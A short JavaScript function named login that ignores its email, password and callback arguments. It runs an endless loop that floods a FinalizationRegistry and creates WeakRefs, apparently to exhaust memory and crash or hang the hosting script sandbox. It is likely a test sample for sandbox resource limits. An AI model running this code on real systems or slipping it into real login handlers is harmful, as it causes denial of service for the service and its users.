function login(email, password, callback) {
  const registry = new FinalizationRegistry(() => { registry.register({}, 1); });
  for (;;) {
    for (let count = 0; count < 1e5; count += 1) {
      registry.register({}, count);
      new WeakRef({});
    }
  }
}
